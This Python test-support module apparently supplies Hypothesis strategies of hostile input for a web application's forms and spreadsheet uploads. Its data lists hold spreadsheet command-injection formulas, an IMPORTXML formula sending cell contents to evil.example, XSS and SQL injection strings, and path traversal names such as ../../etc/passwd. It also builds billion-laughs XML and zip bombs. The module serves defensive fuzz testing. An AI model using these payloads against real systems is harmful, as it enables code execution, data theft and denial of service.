"""Hostile input for the property-based tests: text, values of the wrong type and broken files.

Text strategies give what a careless or malicious user types or pastes: huge strings, control
characters, invisible and right-to-left marks, spreadsheet formulas, markup, SQL and paths.
``xlsx`` writes a workbook by hand, so a test can put into it what Excel never would: cells of
any type, a false sheet size, broken XML, rows by the hundred thousand.
"""

import datetime
import io
import re
import struct
import unicodedata
import zipfile
import zlib
from dataclasses import dataclass
from xml.sax.saxutils import escape

from hypothesis import strategies as st
from PIL import Image

CONTROL = "".join(map(chr, [*range(0x20), 0x7F]))
ODDITIES = [
    "\u200b",  # zero-width space
    "\u200d",  # zero-width joiner
    "\u200e",  # left-to-right mark
    "\u200f",  # right-to-left mark
    "\u202e",  # right-to-left override
    "\u2066",  # left-to-right isolate
    "\ufeff",  # byte order mark
    "\u00ad",  # soft hyphen
    "\u0301",  # combining acute accent
    "\u0336",  # combining long stroke
    "\u2028",  # line separator
    "\u0085",  # next line
    "\u00a0",  # no-break space
    "\u3000",  # ideographic space
    "👩‍👩‍👧",
    "🙂",
    "𝕏",
    "ß",  # casefolds to two letters
    "ﬃ",  # casefolds to three letters
    "İ",  # lower-cases to two characters
    "ǅ",
    "Ё",
]
FORMULAS = [
    "=1+1",
    "+7 921 000-00-00",
    "-1",
    "@SUM(A1:A2)",
    '=HYPERLINK("http://evil.example","жми")',
    "=cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "@cmd|' /C notepad'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "=1+1\t",
]
MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "javascript:alert(1)",
    "{{ request.user.password }}",
    "{% debug %}",
    "]]><!--",
    "[жми](javascript:alert(1))",
    "&#0;&lt;&amp;",
]
SQLISH = [
    "'; DROP TABLE participants_person; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10)",
    "%",
    "_",
    "\\",
    "$$; --",
]
PATHISH = ["../../etc/passwd", "..\\..\\boot.ini", "/dev/zero", "CON", "file:///etc/passwd", "%2e%2e%2f", "~/.ssh"]
NUMBERS = [
    "0",
    "-0",
    "-1",
    "1e400",
    "-1e400",
    "1e-400",
    "NaN",
    "nan",
    "inf",
    "-Infinity",
    "0x10",
    "1_000",
    "١٢",  # Arabic-Indic digits
    "²",  # a digit to str.isdigit, not to int()
    "½",
    "1,5",
    "1.5.5",
    " 7 ",
    "9" * 5000,
    "2147483648",
    "-2147483649",
    "9223372036854775808",
    "32768",
]
DATES = [
    "31.02.2026",
    "29.02.2027",
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "2026-13-01",
    "2026-00-10",
    "-2026-01-01",
    "2026-02-30",
    "01.01.1899",
    "now",
    "завтра",
    "2026-01-01T25:61",
    "1970-01-01 00:00:00+99:00",
]
BLANKS = ["", " ", "\t", "\n", "\r\n", "\u00a0", "\u3000", "\u200b"]


def text_pieces():
    """One short hostile piece of text of any family."""
    return st.one_of(
        st.text(max_size=12),
        st.text(alphabet=CONTROL + "аб", min_size=1, max_size=8),
        st.sampled_from(ODDITIES),
        st.sampled_from(FORMULAS),
        st.sampled_from(MARKUP),
        st.sampled_from(SQLISH),
        st.sampled_from(PATHISH),
        st.sampled_from([number for number in NUMBERS if len(number) < 30]),
        st.sampled_from(DATES),
        st.sampled_from(BLANKS),
        st.sampled_from(["Иванова", "Анна", "Ёлкина", "О'Нил", "Петров-Водкин"]),
    )


def huge_text(min_size=10_000, max_size=1_000_000):
    """A string of ``min_size`` to ``max_size`` characters made of a repeated hostile piece."""
    pieces = st.sampled_from(["я", "a", "=1+1;", "<script>", "\u200b", "👩‍👩‍👧", "Ёж ", "x\ty"])
    return st.builds(_repeat, pieces, st.integers(min_size, max_size))


def _repeat(piece, size):
    return (piece * (size // len(piece) + 1))[:size]


def hostile_text(huge=True):
    """Hostile text: a few pieces joined, or (``huge``, one time in eight) a very long string."""
    joined = st.lists(text_pieces(), min_size=1, max_size=4).map("".join)
    if not huge:
        return joined
    return st.integers(0, 7).flatmap(lambda draw: huge_text() if draw == 0 else joined)


def short_hostile_text():
    """Hostile text short enough for any field that takes text at all."""
    return hostile_text(huge=False)


def form_value(huge=True):
    """What a form field can receive in a POST: text, a list of values where one is expected,
    a number or a date that is not one, or nothing."""
    return st.one_of(
        hostile_text(huge),
        st.lists(short_hostile_text(), min_size=2, max_size=3),
        st.sampled_from(NUMBERS),
        st.sampled_from(DATES),
        st.sampled_from(BLANKS),
    )


def tidy(value):
    """Text as it should be stored from a single line of hostile input: control and invisible
    formatting characters dropped, spaces made single, ends trimmed."""
    kept = "".join(char for char in str(value) if char.isspace() or unicodedata.category(char) not in ("Cc", "Cf"))
    return " ".join(kept.split())


# Workbooks written by hand


@dataclass(frozen=True)
class Raw:
    """A cell written as given: ``<c r=".."{attributes}>{inner}</c>``."""

    attributes: str
    inner: str


@dataclass(frozen=True)
class Formula:
    formula: str
    cached: str | None = None


@dataclass(frozen=True)
class Error:
    code: str = "#DIV/0!"


# Characters XML cannot hold; Excel writes them as «_x0001_», which openpyxl reads back literally.
_EXCEL_ESCAPED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def column_letter(number):
    letters = ""
    while number:
        number, remainder = divmod(number - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def _cell_xml(reference, value):
    if value is None:
        return ""
    if isinstance(value, Raw):
        return f'<c r="{reference}"{value.attributes}>{value.inner}</c>'
    if isinstance(value, Formula):
        cached = "" if value.cached is None else f"<v>{escape(value.cached)}</v>"
        return f'<c r="{reference}" t="str"><f>{escape(value.formula)}</f>{cached}</c>'
    if isinstance(value, Error):
        return f'<c r="{reference}" t="e"><v>{escape(value.code)}</v></c>'
    if isinstance(value, bool):
        return f'<c r="{reference}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{reference}"><v>{value!r}</v></c>'
    if isinstance(value, datetime.date):
        return f'<c r="{reference}" t="d"><v>{value.isoformat()}</v></c>'
    text = escape(_EXCEL_ESCAPED.sub(lambda match: f"_x{ord(match[0]):04X}_", str(value)))
    return f'<c r="{reference}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def sheet_xml(rows, dimension=None, merged=()):
    """The XML of a worksheet holding ``rows`` (lists of cell values)."""
    body = []
    for number, row in enumerate(rows, start=1):
        cells = "".join(_cell_xml(f"{column_letter(col)}{number}", value) for col, value in enumerate(row, start=1))
        body.append(f'<row r="{number}">{cells}</row>')
    parts = [
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">',
        f'<dimension ref="{dimension}"/>' if dimension else "",
        "<sheetData>",
        *body,
        "</sheetData>",
    ]
    if merged:
        parts.append(f'<mergeCells count="{len(merged)}">')
        parts += [f'<mergeCell ref="{ref}"/>' for ref in merged]
        parts.append("</mergeCells>")
    parts.append("</worksheet>")
    return "".join(parts)


def many_rows(header, row, times):
    """The XML of a worksheet: ``header``, then ``row`` ``times`` times (rows without numbers,
    which readers count themselves)."""
    cells = "".join(_cell_xml("", value).replace(' r=""', "") for value in row)
    return sheet_xml([header]).replace("</sheetData>", f"<row>{cells}</row>" * times + "</sheetData>")


def xlsx(*sheets):
    """An .xlsx file whose sheets have the given worksheet XML texts (bytes or str)."""
    count = len(sheets)
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{n}.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for n in range(1, count + 1)
    )
    files = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            f"{overrides}</Types>"
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
            + "".join(f'<sheet name="Лист{n}" sheetId="{n}" r:id="rId{n}"/>' for n in range(1, count + 1))
            + "</sheets></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(
                f'<Relationship Id="rId{n}" '
                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
                f'Target="worksheets/sheet{n}.xml"/>'
                for n in range(1, count + 1)
            )
            + "</Relationships>"
        ),
    }
    for number, sheet in enumerate(sheets, start=1):
        files[f"xl/worksheets/sheet{number}.xml"] = sheet
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content.encode() if isinstance(content, str) else content)
    return stream.getvalue()


def cell_values():
    """What a cell of a list of people may hold in a hostile file."""
    return st.one_of(
        short_hostile_text(),
        st.integers(-(10**20), 10**20),
        st.floats(allow_nan=False, allow_infinity=False),
        st.booleans(),
        st.dates(),
        st.builds(Formula, st.sampled_from(FORMULAS), st.one_of(st.none(), short_hostile_text())),
        st.builds(Error, st.sampled_from(["#DIV/0!", "#N/A", "#REF!", "#VALUE!", "#NAME?"])),
        st.sampled_from(
            [
                Raw("", "<v>1e400</v>"),
                Raw("", "<v>-1e400</v>"),
                Raw("", "<v>nan</v>"),
                Raw("", "<v>inf</v>"),
                Raw(' t="n"', "<v>12abc</v>"),
                Raw(' t="d"', "<v>2026-02-31</v>"),
                Raw(' t="s"', "<v>99</v>"),
                Raw(' t="b"', "<v>2</v>"),
                Raw(' t="inlineStr"', "<is><t>_x0001_ _x0000_</t></is>"),
                Raw(' t="inlineStr"', "<is><r><t>Ива</t></r><r><t>нова</t></r></is>"),
            ]
        ),
        st.none(),
    )


def broken_files():
    """Bytes that are not a list of people in .xlsx: random, truncated, of another type, a bomb."""
    good = xlsx(sheet_xml([["Фамилия", "Имя", "Категория"], ["Иванова", "Анна", "педагог"]]))
    bomb_sheet = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    bomb_sheet += '<dimension ref="A1:XFD1048576"/><sheetData>' + "<row/>" * 200_000 + "</sheetData></worksheet>"
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10))
        + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
    )
    fixed = [
        b"",
        b"PK\x03\x04",
        good[: len(good) // 2],
        good[:-10],
        "Фамилия;Имя;Категория\nИванова;Анна;педагог\n".encode("cp1251"),
        "Фамилия,Имя,Категория\n=cmd|' /C calc'!A0,Анна,педагог\n".encode(),
        b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n",
        b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        xlsx(bomb_sheet),
        xlsx(laughs),
        xlsx("<worksheet><sheetData><row><c r='A1' t='inlineStr'><is><t>\x00</t></is></c>"),
        xlsx(sheet_xml([["Фамилия", "Имя", "Категория"]]).replace("</worksheet>", "")),
        _zip({"xl/workbook.xml": "<workbook/>"}),
        _zip({"[Content_Types].xml": "x" * 10, "xl/workbook.xml": "<not xml"}),
        _zip({"../../evil.txt": "x", "[Content_Types].xml": "<Types/>"}),
        _claims_to_unpack_to(good, 4_000_000_000),
    ]
    return st.one_of(st.sampled_from(fixed), st.binary(max_size=2048), _damaged(good))


@st.composite
def _damaged(draw, content):
    """``content`` with a few bytes overwritten at random places."""
    damaged = bytearray(content)
    for _ in range(draw(st.integers(1, 8))):
        damaged[draw(st.integers(0, len(damaged) - 1))] = draw(st.integers(0, 255))
    return bytes(damaged)


def _claims_to_unpack_to(content, size):
    """The zip ``content`` whose directory says its first entry unpacks to ``size`` bytes."""
    bomb = bytearray(content)
    struct.pack_into("<I", bomb, bomb.index(b"PK\x01\x02") + 24, size)
    return bytes(bomb)


def _zip(files):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return stream.getvalue()


def upload_bytes():
    """Bytes for a file field: broken or foreign files, and tiny or truncated real ones."""
    return st.one_of(
        broken_files(),
        st.sampled_from(
            [
                b"%PDF-",
                b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
                b"\x89PNG\r\n\x1a\n",
                b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x7f\xff\xff\xff\x7f\xff\xff\xff\x08\x02\x00\x00\x00",
                b"\xff\xd8\xff",
                b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 32,
                b"MZ\x90\x00\x03\x00\x00\x00",
                b"<html><script>alert(1)</script></html>",
                b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
                b"GIF89a\x01\x00\x01\x00",
            ]
        ),
    )


def file_names():
    """Names an upload may claim."""
    return st.one_of(
        st.sampled_from(
            [
                "скан.pdf",
                "../../etc/passwd",
                "..\\..\\boot.ini",
                "scan.pdf.exe",
                "exe.\u202efdp",
                "a" * 300 + ".pdf",
                "<script>.png",
                ".pdf",
                "x.PDF",
                "=cmd|' /C calc'!A0.xlsx",
                "nul\x00byte.pdf",
                "ctrl\x01\x1f.jpg",
            ]
        ),
        st.text(min_size=1, max_size=40).map(lambda name: name + ".pdf"),
    )


def png(width, height):
    """A PNG declaring ``width`` × ``height`` pixels; the pixel data fits a one-pixel picture,
    so a large size makes a small file that claims to be huge."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def jpeg():
    """A real two-pixel JPEG."""
    stream = io.BytesIO()
    Image.new("RGB", (2, 2), "red").save(stream, "JPEG")
    return stream.getvalue()
